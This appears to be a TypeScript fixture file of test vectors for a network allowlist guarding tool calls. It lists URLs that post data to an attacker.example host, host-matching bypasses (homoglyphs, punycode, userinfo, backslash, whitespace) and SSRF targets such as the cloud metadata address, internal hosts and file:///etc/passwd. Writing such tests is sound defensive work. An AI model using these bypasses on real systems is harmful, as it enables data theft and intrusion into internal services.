import type { Random } from '../random.ts';
import { attack, type Make, type Vector } from '../types.ts';

const post =
  (url: (random: Random) => string): Make =>
  (random) => ({ tool: 'api.post', parameters: { url: url(random), body: { data: random.word() } } });
const get =
  (url: (random: Random) => string): Make =>
  (random) => ({ tool: 'api.get', parameters: { url: url(random) } });

/** Addresses that look like a listed one, or lead inside. */
export const NETWORK: readonly Vector[] = [
  attack(
    'host-other',
    'A host that is not listed.',
    post((random) => `https://${random.word()}.attacker.example/in`),
  ),
  attack(
    'host-suffix',
    'A listed host as the beginning of another.',
    post((random) => `https://api.example.com.${random.word()}.net/in`),
  ),
  attack(
    'host-prefix',
    'A name that ends like a listed one.',
    post((random) => `https://${random.word()}api.example.com/in`),
  ),
  attack(
    'host-hyphen',
    'A hyphen in the place of a dot.',
    post(() => 'https://api-example.com/in'),
  ),
  attack(
    'host-homoglyph',
    'A letter of another script.',
    post(() => 'https://\u0430pi.example.com/in'),
  ),
  attack(
    'host-punycode',
    'The same, encoded.',
    post(() => 'https://xn--pi-6kc.example.com/in'),
  ),
  attack(
    'host-userinfo',
    'The listed host as a user name.',
    post((random) => `https://api.example.com@${random.word()}.attacker.example/in`),
  ),
  attack(
    'host-backslash',
    'A backslash that some take for a slash.',
    post(() => 'https://attacker.example\\@api.example.com/'),
  ),
  attack(
    'host-port',
    'Another port of a listed host.',
    post((random) => `https://api.example.com:${8000 + random.int(1000)}/in`),
  ),
  attack(
    'host-metadata',
    'The metadata of a cloud.',
    get(
      (random) =>
        `https://${random.pick(['169.254.169.254', '0xa9fea9fe', '2852039166', '[::ffff:a9fe:a9fe]', '169.254.169.254.'])}/latest/meta-data`,
    ),
  ),
  attack(
    'host-internal',
    'A host inside.',
    get(
      (random) =>
        `https://${random.pick(['localhost', '127.0.0.1', '10.0.0.7', '[::1]', 'db.internal', 'printer'])}/`,
    ),
  ),
  attack(
    'host-scheme',
    'Another scheme.',
    get(
      (random) =>
        `${random.pick(['http://api.example.com/', 'file:///etc/passwd', 'gopher://api.example.com/', 'javascript:fetch(1)', 'ftp://api.example.com/'])}`,
    ),
  ),
  attack(
    'host-space',
    'White space inside.',
    get((random) => `https://api.example.com${random.pick([' ', '\t', '\n', '\u00a0'])}.attacker.example/`),
  ),
];
